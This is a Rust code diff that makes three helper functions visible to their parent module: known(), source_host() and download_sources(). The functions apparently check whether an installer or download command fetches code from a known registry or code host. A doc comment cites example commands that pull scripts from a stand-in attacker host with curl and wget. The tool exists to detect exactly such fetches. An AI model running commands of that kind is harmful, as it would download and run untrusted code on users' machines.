@@ -40,7 +40,7 @@ fn known_hosts() -> &'static Vec<String> {
 }
 
 /// Whether code from `host` comes from a registry or a well-known code host (or this machine).
-fn known(host: &str) -> bool {
+pub(super) fn known(host: &str) -> bool {
     is_loopback_host(host)
         || known_hosts().iter().any(|k| {
             host == k
@@ -52,7 +52,7 @@ fn known(host: &str) -> bool {
 
 /// The host of a source an installer fetches: a URL, a VCS address (`git+https://...`,
 /// `git+ssh://git@h/x`, `git@h:o/r`).
-fn source_host(word: &str) -> Option<String> {
+pub(super) fn source_host(word: &str) -> Option<String> {
     // `--editable=git+URL`.
     let word = match word.split_once('=') {
         Some((opt, v)) if opt.starts_with('-') => v,
@@ -199,7 +199,7 @@ const VALUE_LONG: &[&str] = &[
 /// addresses the client reads as `http://` (`curl evil.example.com/x.sh`, `wget 203.0.113.5/i`):
 /// an IPv4 address, or a name of three labels or more, or a name followed by a path. Option
 /// values (`-o install.sh`) and local paths are none.
-fn download_sources(argv: &[String]) -> Vec<String> {
+pub(super) fn download_sources(argv: &[String]) -> Vec<String> {
     let mut hosts = Vec::new();
     if argv
         .first()
